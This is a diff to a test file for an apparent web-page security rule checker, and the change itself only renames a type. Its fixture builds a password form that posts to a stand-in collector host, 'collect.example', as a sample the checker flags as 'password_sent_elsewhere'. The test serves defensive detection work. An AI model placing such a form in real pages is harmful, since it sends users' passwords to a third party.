@@ -4,13 +4,13 @@
  */
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
-import { findingsOf, page, rulesBroken, script, type Pages } from './page-fixtures.ts'
+import { findingsOf, page, rulesBroken, script, type TestPages } from './page-fixtures.ts'
 import { rules } from './rules.ts'
 
 const password = '<input type="password" name="p">'
 const steals = `<form action="https://collect.example/p.php" method="post">${password}</form>`
 
-const bad: [name: string, found: string, pages: Pages][] = [
+const bad: [name: string, found: string, pages: TestPages][] = [
   [
     'a password form that posts elsewhere',
     'password_sent_elsewhere index.html:2',
